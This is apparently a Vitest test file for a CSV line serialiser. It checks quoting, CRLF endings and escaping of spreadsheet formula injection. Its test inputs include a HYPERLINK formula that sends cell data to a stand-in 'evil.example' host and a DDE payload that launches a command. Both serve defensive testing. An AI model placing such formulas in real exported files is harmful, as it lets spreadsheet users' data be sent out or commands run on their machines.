import { describe, expect, it } from 'vitest';
import { type Cell, csvLine } from './csv.ts';

describe('a line of CSV', () => {
  it.each<[string, Cell, string]>([
    ['a text is quoted', 'plain', '"plain"'],
    ['quotes in a text are doubled', 'say "hi"', '"say ""hi"""'],
    ['commas and line breaks stay in the quoted text', 'a,b\r\nc', '"a,b\r\nc"'],
    ['null is an empty cell', null, ''],
    ['an empty text is a quoted empty cell', '', '""'],
    ['a number is not quoted, also when negative', -7, '-7'],
    ['a boolean is true or false', false, 'false'],
    ['letters beyond ASCII stay unchanged', 'Zoë 🔑', '"Zoë 🔑"'],
  ])('in a line of CSV, %s', (_fact, cell, spelt) => {
    expect(csvLine([cell])).toBe(`${spelt}\r\n`);
  });

  it('a CSV line has commas between cells and CRLF at its end', () => {
    expect(csvLine([1, 'a', null, true])).toBe('1,"a",,true\r\n');
  });

  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1)',
    '+1',
    '-1',
    "@SUM(1)|cmd|' /C calc'!A0",
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
  ])('a CSV line escapes the formula %j', (formula) => {
    const line = csvLine([formula]);
    expect(line.startsWith(`"'${formula[0]}`)).toBe(true);
    expect(line).toBe(`"'${formula.replaceAll('"', '""')}"\r\n`);
  });

  it.each(['a=1', 'x-1', "'=1", ' =1', '1+1', '{"=":1}'])(
    'a CSV line leaves the text %j unchanged',
    (text) => {
      expect(csvLine([text])).toBe(`"${text.replaceAll('"', '""')}"\r\n`);
    },
  );
});
